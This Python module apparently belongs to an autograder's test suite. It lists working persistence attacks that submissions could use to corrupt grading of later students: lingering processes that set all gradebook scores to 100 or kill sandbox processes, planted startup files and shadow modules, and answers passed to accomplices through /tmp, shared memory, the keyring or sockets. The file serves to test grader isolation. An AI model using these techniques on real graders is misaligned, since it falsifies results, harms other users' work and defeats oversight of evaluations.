"""Attacks that outlast the submission: what they leave behind acts while the next one is graded."""

from ..sample_class.students import LESSON, right_answers
from .attack import WRONG, Attack, before, within

RIGHT = repr(right_answers(LESSON))
KEEP = f"import json\nright = json.dumps({RIGHT})\n"
SABOTAGE = """
from helpers.checking.function import FunctionCheck
def refuse(self, *_): raise ValueError("not today")
FunctionCheck.__call__ = refuse
"""


def taking(find: str) -> dict[str, str]:
    """Return answers that are whatever the expression `find`, JSON, holds."""
    answers = {name: f"exec(found[{name!r}])\n" for name in WRONG}
    return {**answers, "forward": f"import json\n{find}\n{answers['forward']}"}


ATTACKS = [
    Attack(
        "a thread left behind",
        "Leaves a thread that goes on changing the check.",
        before(f"""
import threading, time
def forever():
    while True:
        exec({SABOTAGE!r}, {{}})
        time.sleep(0.01)
threading.Thread(target=forever, daemon=True).start()
"""),
        quick=True,
    ),
    Attack(
        "a process left behind",
        "Leaves a process that gives everybody full marks as soon as the grader has written.",
        before("""
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1000)
        for _ in range(600):
            try:
                book = sqlite3.connect("@COURSE@/gradebook/gradebook.db", timeout=1)
                book.execute("update grade set manual_score = 100, needs_manual_grade = 0")
                book.commit()
                book.close()
            except sqlite3.Error:
                pass
            time.sleep(0.1)
    os._exit(0)
"""),
        quick=True,
    ),
    Attack(
        "a process that kills",
        "Leaves a process that kills every other one that it sees.",
        before("""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) not in (1, os.getpid()):
                    try:
                        command = open(f"/proc/{name}/cmdline").read()
                        if "ipykernel" in command or "sandbox" in command:
                            os.kill(int(name), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.1)
    os._exit(0)
"""),
    ),
    Attack(
        "start files",
        "Leaves files that Python and IPython run when the next student's program starts.",
        before(f"""
import os, pathlib, site
sabotage = {SABOTAGE!r}
places = [pathlib.Path(get_ipython().profile_dir.location) / "startup" / "00.py"] if getattr(
    get_ipython(), "profile_dir", None) else []
places += [pathlib.Path("@HOME@/.ipython/profile_default/startup/00.py")]
places += [pathlib.Path(site.getusersitepackages()) / "usercustomize.py"]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(sabotage)
    except OSError:
        pass
"""),
        quick=True,
    ),
    Attack(
        "shadowing modules",
        "Writes a module `helpers` and a `numpy.py` beside the notebook and imports them anew.",
        before('''
import pathlib, sys
room = pathlib.Path("helpers/lessons/two_weights")
room.mkdir(parents=True, exist_ok=True)
(room / "__init__.py").write_text("""
class Anything:
    def __getattr__(self, name): return Anything()
    def __call__(self, *_): return None
checks = Anything()
""")
pathlib.Path("numpy.py").write_text("raise SystemExit")
sys.path.insert(0, str(pathlib.Path.cwd()))
for name in [name for name in sys.modules if name.partition(".")[0] == "helpers"]:
    del sys.modules[name]
from helpers.lessons.two_weights import checks
'''),
        quick=True,
    ),
    Attack(
        "a letter in tmp",
        "Leaves right answers in `/tmp` for the accomplice who comes next.",
        before(KEEP + "open('/tmp/downhill-letter', 'w').write(right)"),
        accomplice=taking("found = json.load(open('/tmp/downhill-letter'))"),
        quick=True,
    ),
    Attack(
        "a letter in shared memory",
        "Leaves right answers in `/dev/shm` for the accomplice.",
        before(KEEP + "open('/dev/shm/downhill-letter', 'w').write(right)"),
        accomplice=taking("found = json.load(open('/dev/shm/downhill-letter'))"),
    ),
    Attack(
        "a letter among the devices",
        "Leaves right answers in `/dev`, which belongs to whoever is not root, for the accomplice.",
        before(
            KEEP
            + """
try:
    open('/dev/downhill-letter', 'w').write(right)
except OSError:
    pass
"""
        ),
        accomplice=taking("found = json.load(open('/dev/downhill-letter'))"),
        quick=True,
    ),
    Attack(
        "a letter in the key ring",
        "Leaves right answers in the user's key ring in the kernel for the accomplice.",
        before(
            KEEP
            + "import ctypes\n"
            + "call = ctypes.CDLL(None, use_errno=True).syscall\n"
            + "print(call(248, b'user', b'downhill', right.encode(), len(right), -4))"
        ),
        accomplice=taking("""
import ctypes
call = ctypes.CDLL(None, use_errno=True).syscall
held = ctypes.create_string_buffer(30_000)
key = call(250, 10, -4, b"user", b"downhill", 0)
call(250, 11, key, held, 30_000)
call(250, 3, key)
found = json.loads(held.value)
"""),
        quick=True,
    ),
    Attack(
        "a letter by system v",
        "Leaves right answers in a System V segment for the accomplice.",
        before(
            KEEP
            + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x646F776E, 30_000, 0o1600)
if segment >= 0:
    ctypes.memmove(libc.shmat(segment, None, 0), right.encode() + b"\\0", len(right.encode()) + 1)
"""
        ),
        accomplice=taking("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x646F776E, 30_000, 0o600)
assert segment >= 0
found = json.loads(ctypes.string_at(libc.shmat(segment, None, 0)))
libc.shmctl(segment, 0, None)
"""),
    ),
    Attack(
        "a voice from before",
        "Leaves a process that tells right answers to the accomplice over a socket.",
        before(
            KEEP
            + """
import os, socket
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 1000)
        server = socket.socket(socket.AF_UNIX)
        server.bind("\\0downhill-letter")
        server.listen()
        server.settimeout(60)
        server.accept()[0].sendall(right.encode())
    os._exit(0)
"""
        ),
        accomplice=taking("""
import socket
near = socket.socket(socket.AF_UNIX)
near.connect("\\0downhill-letter")
found = json.load(near.makefile())
"""),
    ),
    Attack(
        "answers kept in the judge",
        "Has the check keep an object of the student's, to act when the next student is judged.",
        within("""
import sys
frame = sys._getframe(1)
while frame is not None:
    mine = frame.f_locals.get("self")
    if type(mine).__name__ == "FunctionCheck":
        object.__setattr__(mine, "points", [])
    frame = frame.f_back
"""),
    ),
]
